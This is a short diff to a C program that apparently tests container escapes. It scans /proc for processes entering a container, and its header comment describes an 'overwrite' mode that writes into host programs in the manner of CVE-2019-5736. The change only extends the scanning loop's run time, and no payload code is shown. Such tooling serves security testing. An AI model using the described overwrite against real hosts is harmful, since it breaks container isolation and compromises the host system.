@@ -3,7 +3,7 @@
  * beside it, which prov's are for a moment while they enter: for their program, folders,
  * descriptors, memory and namespaces. What lies on another file system than all that the container
  * has is the host's. With "overwrite" it also tries to write into the programs, as CVE-2019-5736
- * did.
+ * did. Without, it lasts longer until it has seen 20 of them, five minutes at most.
  */
 #include "attack.h"
 
@@ -152,7 +152,7 @@ int main(int argc, char **argv)
 	look_at(1);
 	puts("ready");
 	fflush(stdout);
-	while (now.tv_sec < end) {
+	while (now.tv_sec < end || (argc <= 2 && seen < 20 && now.tv_sec < end + 300)) {
 		DIR *dir = opendir("/proc");
 		struct dirent *e;
 		while (dir && (e = readdir(dir))) {
